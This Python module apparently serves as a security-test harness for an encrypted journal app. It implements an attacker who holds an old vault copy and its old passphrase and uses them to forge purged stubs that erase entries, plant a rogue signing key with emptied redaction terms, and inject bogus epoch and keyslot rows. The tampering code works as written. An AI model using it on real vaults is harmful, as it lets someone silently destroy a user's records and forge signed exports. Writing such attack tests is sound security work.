"""Someone with an OLD copy of a journal, its OLD passphrase, and one write to the
CURRENT file (docs/threat-model.md). Built from docs/vault-format.md only: this
module imports nothing from the app, just sqlite3, json, hashlib, os and
`cryptography`; section numbers refer to that page.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import sqlite3
from collections.abc import Iterator
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305
from cryptography.hazmat.primitives.kdf.argon2 import Argon2id


def context(label: str, *parts: bytes | str | int) -> bytes:
    """Section 4.1."""
    out = b""
    for part in (label, *parts):
        if isinstance(part, int):
            part = part.to_bytes(8, "big")
        elif isinstance(part, str):
            part = part.encode("utf-8")
        out += len(part).to_bytes(4, "big") + part
    return out


def seal(key: bytes, plain: bytes, aad: bytes) -> bytes:
    """Section 4.2."""
    nonce = os.urandom(12)
    return nonce + ChaCha20Poly1305(key).encrypt(nonce, plain, aad)


def unseal(key: bytes, blob: bytes, aad: bytes) -> bytes:
    return ChaCha20Poly1305(key).decrypt(blob[:12], blob[12:], aad)


def canonical(record: dict) -> bytes:
    """Section 7.1."""
    return json.dumps(record, sort_keys=True, ensure_ascii=False, separators=(",", ":")).encode()


@contextlib.contextmanager
def connect(path: Path) -> Iterator[sqlite3.Connection]:
    db = sqlite3.connect(path)
    try:
        with db:
            yield db
    finally:
        db.close()


class OldKeyAttacker:
    """Epoch keys read from an old copy with the old passphrase (sections 5.2, 5.3)."""

    def __init__(self, old_copy: Path, old_passphrase: str) -> None:
        with connect(old_copy) as db:
            self.vault_id = db.execute("SELECT v FROM meta WHERE k = 'vault_id'").fetchone()[0]
            slot_id, epoch, params, ct = db.execute(
                "SELECT slot_id, epoch, params, ct FROM keyslot WHERE kind = 'passphrase'"
            ).fetchone()
            links = dict(db.execute("SELECT epoch, prev_key FROM epoch"))
        p = json.loads(params)
        kek = Argon2id(
            salt=bytes.fromhex(p["salt"]),
            length=32,
            iterations=p["iterations"],
            lanes=p["lanes"],
            memory_cost=p["memory_kib"],
        ).derive(old_passphrase.encode())
        key = unseal(kek, ct, context("slot", self.vault_id, slot_id, "passphrase", epoch, params))
        self.keys = {epoch: key}
        self.epoch = epoch
        while links[epoch] is not None:
            key = unseal(key, links[epoch], context("epoch-link", self.vault_id, epoch))
            epoch -= 1
            self.keys[epoch] = key

    # objects (section 6) ----------------------------------------------------------------
    def read(self, db: sqlite3.Connection, object_id: bytes) -> bytes | None:
        """A small object's plaintext, or None when it is sealed under a newer key."""
        epoch, role, wrapped = db.execute(
            "SELECT epoch, role, wrapped_key FROM object WHERE object_id = ?", (object_id,)
        ).fetchone()
        if epoch not in self.keys:
            return None
        aad = context("object-key", self.vault_id, object_id, role, epoch)
        aead = ChaCha20Poly1305(unseal(self.keys[epoch], wrapped, aad))
        cts = [
            ct
            for (ct,) in db.execute(
                "SELECT ct FROM chunk WHERE object_id = ? ORDER BY idx", (object_id,)
            )
        ]
        plain = b""
        for idx, ct in enumerate(cts):
            flag = b"\x01" if idx == len(cts) - 1 else b"\x00"
            plain += aead.decrypt(
                idx.to_bytes(11, "big") + flag, ct, context("chunk", self.vault_id, object_id)
            )
        return plain.rstrip(b"\x00")[:-1]

    def write(
        self, db: sqlite3.Connection, role: str, plain: bytes, object_id: bytes | None = None
    ) -> bytes:
        """A one-chunk object under the old epoch key, padded to 1 KiB (sections 6.1-6.3)."""
        object_id = object_id or os.urandom(16)
        object_key = os.urandom(32)
        wrapped = seal(
            self.keys[self.epoch],
            object_key,
            context("object-key", self.vault_id, object_id, role, self.epoch),
        )
        padded = plain + b"\x80" + b"\x00" * (-(len(plain) + 1) % 1024)
        ct = ChaCha20Poly1305(object_key).encrypt(
            (0).to_bytes(11, "big") + b"\x01", padded, context("chunk", self.vault_id, object_id)
        )
        db.execute(
            "INSERT INTO object (object_id, epoch, role, wrapped_key, state) "
            "VALUES (?, ?, ?, ?, 'ready')",
            (object_id, self.epoch, role, wrapped),
        )
        db.execute("INSERT INTO chunk (object_id, idx, ct) VALUES (?, 0, ?)", (object_id, ct))
        return object_id

    @staticmethod
    def delete(db: sqlite3.Connection, object_id: bytes) -> None:
        db.execute("DELETE FROM chunk WHERE object_id = ?", (object_id,))
        db.execute("DELETE FROM aux WHERE object_id = ?", (object_id,))
        db.execute("DELETE FROM object WHERE object_id = ?", (object_id,))

    # finding 1: make an entry and its evidence vanish -------------------------------------
    def stub_out_entry(self, current: Path, entry_id: str) -> int:
        """Replace every readable revision of the entry with a purged stub that carries
        its leaf (section 7.4) and delete its evidence. Returns how many were replaced."""
        replaced = 0
        with connect(current) as db:
            rows = db.execute("SELECT seq, object_id FROM revision ORDER BY seq").fetchall()
            for seq, object_id in rows:
                plain = self.read(db, object_id)
                if plain is None:
                    continue
                record = json.loads(plain)
                if record.get("id") != entry_id or record.get("type") != "entry":
                    continue
                stub = canonical(
                    {
                        "format": 1,
                        "id": entry_id,
                        "leaf": hashlib.sha256(b"leaf" + plain).hexdigest(),
                        "of_type": "entry",
                        "recorded_at": record["recorded_at"],
                        "revision": record["revision"],
                        "seq": seq,
                        "type": "purged",
                    }
                )
                stub_id = self.write(db, "revision", stub)
                db.execute("UPDATE revision SET object_id = ? WHERE seq = ?", (stub_id, seq))
                self.delete(db, object_id)
                for attachment in record["attachments"]:
                    self.delete(db, bytes.fromhex(attachment["attachment_id"]))
                replaced += 1
        return replaced

    # finding 2: plant settings ------------------------------------------------------------
    def plant_settings(self, current: Path) -> str:
        """An old-epoch settings object with a high id: own signing key (claiming a high
        epoch), emptied redaction terms, a planted draft. Returns the key's raw public hex."""
        key = Ed25519PrivateKey.generate()
        public = key.public_key().public_bytes_raw().hex()
        values = {
            "export_signing_key": {
                "alg": "ed25519",
                "private": key.private_bytes_raw().hex(),
                "epoch": 99,
                "history": [
                    {"public": public, "since": "2025-01-01T00:00:00+00:00", "signature": None}
                ],
            },
            "export_redaction_profiles": [{"name": "Court", "hidden_fields": [], "terms": []}],
            "drafts": {
                "new": {
                    "content": {"kind": "note", "title": "Planted draft"},
                    "saved_at": "2025-01-01T00:00:00+00:00",
                    "base_revision": None,
                }
            },
        }
        plain = json.dumps({"type": "settings", "values": values}, sort_keys=True).encode()
        with connect(current) as db:
            object_id = self.write(db, "aux", plain, object_id=b"\xff" * 16)
            db.execute("INSERT INTO aux (object_id) VALUES (?)", (object_id,))
        return public


# no keys needed ----------------------------------------------------------------------------
def delete_settings(current: Path) -> list[bytes]:
    """Delete every settings object (section 9), as a rollback or a wipe would."""
    with connect(current) as db:
        ids = [oid for (oid,) in db.execute("SELECT object_id FROM aux")]
        for object_id in ids:
            OldKeyAttacker.delete(db, object_id)
    return ids


def insert_epoch_row(current: Path) -> int:
    """Finding 3: one more `epoch` row (section 2), with a random 60-byte link."""
    with connect(current) as db:
        newest = db.execute("SELECT max(epoch) FROM epoch").fetchone()[0]
        db.execute(
            "INSERT INTO epoch (epoch, prev_key) VALUES (?, ?)", (newest + 1, os.urandom(60))
        )
    return newest + 1


def plant_slots(current: Path, params: list[dict], slot_ids: list[int] | None = None) -> list[int]:
    """Finding 4: passphrase slots of the newest epoch with chosen Argon2id parameters."""
    added = []
    with connect(current) as db:
        epoch = db.execute("SELECT max(epoch) FROM epoch").fetchone()[0]
        for number, p in enumerate(params):
            slot_id = (
                slot_ids[number]
                if slot_ids
                else (db.execute("SELECT max(slot_id) FROM keyslot").fetchone()[0] + 1)
            )
            text = json.dumps(
                {"alg": "argon2id", "salt": os.urandom(16).hex(), **p},
                sort_keys=True,
                separators=(",", ":"),
            )
            db.execute(
                "INSERT INTO keyslot (slot_id, kind, epoch, params, ct) "
                "VALUES (?, 'passphrase', ?, ?, ?)",
                (slot_id, epoch, text, os.urandom(60)),
            )
            added.append(slot_id)
    return added
